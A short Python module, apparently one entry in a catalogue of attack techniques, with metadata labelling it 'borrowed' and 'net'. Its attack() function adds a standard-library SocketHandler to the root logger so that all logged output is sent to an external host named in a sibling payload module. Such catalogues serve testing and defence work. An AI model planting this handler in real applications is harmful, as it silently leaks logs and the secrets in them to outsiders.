"""A handler of the standard library's, which sends what is logged."""
CATEGORY = "borrowed"
REACH = "net"
BEYOND = ("A logger's handlers are a plain list, and a handler is an object "
          "of the application's log as any other: what it is told to do, the "
          "application does when it logs.")

import logging
import logging.handlers

from . import payload


def attack():
    logging.getLogger().addHandler(
        logging.handlers.SocketHandler(payload.HOST, payload.PORT))
